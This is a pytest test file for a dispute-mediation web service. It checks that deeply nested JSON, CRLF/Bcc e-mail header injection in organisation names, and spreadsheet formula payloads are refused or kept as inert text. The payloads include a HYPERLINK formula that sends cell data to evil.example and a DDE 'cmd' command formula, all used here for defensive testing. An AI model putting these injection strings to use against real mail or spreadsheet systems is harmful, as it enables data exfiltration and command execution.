"""Hostile input refused cleanly: nested JSON, line breaks in names, formulas in spreadsheet cells,
and out-of-scope dispute ids that answer exactly like absent ones (status, body, statement count)."""
from __future__ import annotations

import io
import logging
from contextlib import contextmanager

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import event, select, update

from mediation.common.errors import ValidationError
from mediation.extensions import db
from mediation.models import Committee, OrgUnit
from mediation.orgs import tree
from mediation.reports import weekly
from mediation.reports.spreadsheet import append_row
from tests import factories
from tests.api.conftest import error_of, snapshot
from tests.live import subject
from tests.test_reports import MONDAY_AFTER, WEEK, deliver_pending, sink, week_of_work  # noqa: F401

NESTED = "[" * 3000 + "]" * 3000  # 6 KB of brackets
DEEP_OBJECT = '{"a":' * 2000 + "1" + "}" * 2000


# -- nested and malformed JSON: 400 everywhere, never a traceback -------------------------------------
@pytest.mark.parametrize("method, path", [
    ("POST", "/api/v1/auth/token"), ("POST", "/api/v1/disputes"), ("POST", "/api/v1/orgs"),
    ("PATCH", "/api/v1/disputes/1"), ("PUT", "/api/v1/orgs/X/policy"), ("POST", "/api/v1/reports/subscriptions"),
])
@pytest.mark.parametrize("body", [NESTED, DEEP_OBJECT, '{"username": ' + NESTED + "}", "{not json", "\xff\xfe"])
def test_nested_or_malformed_json_is_a_400_and_logs_no_traceback(client, world, caplog, method, path, body):
    caplog.set_level(logging.DEBUG)
    from mediation.orgs import users

    for token in (None, users.issue_token(world.admin)[0]):
        headers = {"Content-Type": "application/json"}
        if token:
            headers["Authorization"] = f"Bearer {token}"
        r = client.open(path, method=method, data=body.encode("utf-8", "surrogateescape") if isinstance(body, str)
                        else body, headers=headers)
        if token is None and path != "/api/v1/auth/token":
            error_of(r, 401, "unauthorized")
            continue
        error = error_of(r, 400, "bad_request")
        assert "JSON" in error["message"] or "nested" in error["message"], error
    assert "Traceback" not in caplog.text and "RecursionError" not in caplog.text
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


def test_flask_get_json_answers_400_for_deep_nesting(app):
    with app.test_request_context("/", method="POST", data=NESTED, content_type="application/json"):
        from flask import request
        from werkzeug.exceptions import BadRequest

        with pytest.raises(BadRequest):
            request.get_json()
        assert request.get_json(silent=True) is None


# -- line breaks in names: refused at the source, harmless in e-mails ----------------------------------
@pytest.mark.parametrize("name", ["甲镇\r\nBcc: x@evil.example", "一\n村", "乙\u2028村", "丙\x00村", "丁\u0085村"])
def test_org_and_committee_names_with_line_breaks_are_refused(world, as_user, name):
    api = as_user(world.admin)
    before = snapshot()
    error = error_of(api.post("/orgs", {"code": factories.uniq("VX"), "name": name, "level": "village",
                                        "parent": world.t1.code}), 422, "validation_error")
    assert "单行" in error["details"]["fields"]["name"][0]  # "must be one line …", in the caller's Chinese
    error = error_of(api.post("/committees", {"code": factories.uniq("C"), "name": name, "org": world.v1.code,
                                              "kind": "people", "specialties": []}), 422, "validation_error")
    assert list(error["details"]["fields"]) == ["name"]
    assert snapshot() == before
    with pytest.raises(ValidationError) as caught:
        tree.create_org(factories.uniq("VX"), name, "village", world.t1.code)
    assert "name" in caught.value.fields


def test_a_weekly_report_for_names_stored_before_the_rule_is_delivered_and_formula_free(world, sink):  # noqa: F811
    """Rows written before names were checked: the e-mail still goes out (one-line subject), and a
    committee name that looks like a formula stays text in the workbook."""
    week_of_work(world)
    db.session.execute(update(OrgUnit).where(OrgUnit.id == world.t1.id).values(name="甲镇\r\nBcc: spy@evil.example"))
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    db.session.execute(update(Committee).where(Committee.id == world.cv1.id).values(name=formula))
    db.session.expire_all()
    weekly.add_subscription(world.t1.code, "chief@bureau.example", world.s_t1)
    assert weekly.send_weekly(world.t1.code, WEEK, at=MONDAY_AFTER) >= 1
    deliver_pending()
    [message] = sink.to("chief@bureau.example")
    assert "\n" not in subject(message) and "Bcc" not in message and "spy@evil.example" not in message.get("Bcc", "")
    assert subject(message).startswith("【枫桥经验周报】甲镇 Bcc: spy@evil.example")
    [attachment] = [p for p in message.walk() if (p.get_filename() or "").endswith(".xlsx")]
    book = load_workbook(io.BytesIO(attachment.get_content()))
    cells = [row[1] for row in book["超期未结"].iter_rows(min_row=2)]
    assert [c.value for c in cells] == [formula]
    assert all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0"])
def test_spreadsheet_cells_never_become_formulas(value):
    book = Workbook()
    append_row(book.active, ["名称", value, -5, 3.5, None])
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert row[1].value == value and row[1].data_type == "s"
    assert row[2].value == -5 and row[2].data_type == "n" and row[3].value == 3.5


def test_spreadsheet_text_is_redacted():
    book = Workbook()
    append_row(book.active, ["张三 13912345678 330102198001010018"])
    assert book.active["A1"].value == "张三 139****5678 3301**********0018"


# -- out of scope answers exactly like absent ----------------------------------------------------------
@contextmanager
def counted_statements():
    seen: list[str] = []

    def count(conn, cursor, statement, parameters, context, executemany):
        seen.append(statement)

    engine = db.engine
    event.listen(engine, "before_cursor_execute", count)
    try:
        yield seen
    finally:
        event.remove(engine, "before_cursor_execute", count)


@pytest.mark.parametrize("actor", ["m1", "s_t1"])
@pytest.mark.parametrize("method, path, body", [
    ("GET", "/disputes/{id}", None),
    ("GET", "/disputes/{id}/events", None),
    ("PATCH", "/disputes/{id}", {"version": 1, "summary": "x"}),
    ("POST", "/disputes/{id}/transitions", {"trigger": "accept", "version": 1}),
    ("POST", "/disputes/{id}/sessions", {"mode": "phone"}),
    ("POST", "/disputes/{id}/preventions", {"kind": "suicide", "people": 1}),
    ("POST", "/disputes/{id}/parties/{party}/reveal", None),
])
def test_out_of_scope_and_absent_disputes_answer_alike(world, as_user, actor, method, path, body):
    theirs = factories.dispute_in("in_mediation", world.cv3)
    absent = theirs.id + 100000
    api = as_user(world.users[actor])
    answers = []
    for dispute_id in (theirs.id, absent, theirs.id, absent):  # twice each: caches warmed alike
        db.session.expire_all()
        with counted_statements() as seen:
            r = api.call(method, path.format(id=dispute_id, party=theirs.parties[0].id), body)
        answers.append((r.status_code, r.get_json(), len(seen)))
    assert answers[2] == answers[3], answers
    assert answers[2][0] == 404 and answers[2][1]["error"]["code"] == "not_found"


def test_the_statement_count_would_see_a_difference(world):
    with counted_statements() as seen:
        db.session.scalar(select(OrgUnit.id).limit(1))
        db.session.scalar(select(OrgUnit.id).limit(1))
    assert sum(s.lstrip().startswith("SELECT") for s in seen) == 2
